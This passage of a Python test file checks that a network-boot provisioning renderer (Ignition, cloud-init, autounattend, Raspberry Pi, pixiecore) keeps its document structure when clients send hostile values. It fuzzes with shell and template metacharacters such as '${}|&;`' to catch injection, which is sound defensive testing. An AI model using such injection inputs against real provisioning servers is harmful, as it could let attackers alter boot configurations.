            renderer(Boot(menu, {}, "w"), client, replace(INVENTORY.assign(client, SITE), profile=menu), SITE, INVENTORY)
            for client in (told(value), told("x"))
        ]
        assert shape(texts[0]) == shape(texts[1]) and texts[0].count("${") == texts[1].count("${")


def parsed(kind: str, text: str) -> Any:
    """A document as its reader takes it apart, without the values."""
    if kind == "ignition":
        return skeleton(json.loads(text))
    if kind == "cloud":
        return skeleton(yaml.safe_load(text))
    if kind == "autounattend":
        root = ElementTree.fromstring(f"<all>{text}</all>")
        return [(element.tag, sorted(element.keys()), len((element.text or "").split())) for element in root.iter()]
    return shape(text)


def skeleton(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: skeleton(inner) for key, inner in value.items()}
    if isinstance(value, list):
        return [skeleton(inner) for inner in value]
    return len(str(value).split())


def hold_documents_against(value: str) -> None:
    templates = {f"{kind}.j2": text.replace("FIELDS", FIELDS) for kind, text in DOCUMENTS.items()}
    profile = replace(TELLTALE["kernel"], documents={**{kind: f"{kind}.j2" for kind in DOCUMENTS}})
    inventory = Inventory.build([], [Group("g", profile="p")], [profile], templates)
    hostile, mild = told(value), told("x")
    for kind in DOCUMENTS:
        texts = [render.document(kind, client, inventory.assign(client, SITE), SITE, inventory) for client in (hostile, mild)]
        assert parsed(kind, texts[0]) == parsed(kind, texts[1]), kind
        assert texts[0].count("${") == texts[0].count("{{") == 0
    plain = replace(profile, args=("quiet", *(arg for arg in profile.args if "url(" not in arg)), documents={})
    for kind in ("config.txt", "cmdline.txt"):
        answers = [
            render.raspberry_pi(kind, Boot(plain, {}, "w"), client, inventory.assign(client, SITE), SITE, inventory) or ""
            for client in (hostile, mild)
        ]
        assert shape(answers[0]) == shape(answers[1])
    specs = [
        render.pixiecore(Boot(plain, {}, "w"), client, inventory.assign(client, SITE), SITE, inventory)
        for client in (hostile, mild)
    ]
    assert skeleton(specs[0]) == skeleton(specs[1])
    environments = [render.metadata(client, inventory.assign(client, SITE)) for client in (hostile, mild)]
    assert environments[0] == environments[1]


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE)
def test_what_a_client_says_changes_no_document(value: str) -> None:
    hold_documents_against(value)


@pytest.mark.slow
@settings(deadline=None)
@given(st.text(min_size=1, max_size=80) | st.text("${}|&;#'\"\n\r %\\`:-<>", min_size=1, max_size=80))
def test_whatever_a_client_says_changes_no_document(value: str) -> None:
    hold_documents_against(value)


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE)
def test_what_a_client_says_changes_no_structure(value: str) -> None:
    hold_against(value)


@pytest.mark.slow
@settings(deadline=None)  # a busy machine is no fault of the code
@given(st.text(min_size=1, max_size=80) | st.text("${}|&;#'\"\n\r %\\`", min_size=1, max_size=80))
def test_whatever_a_client_says_changes_no_structure(value: str) -> None:
    hold_against(value)
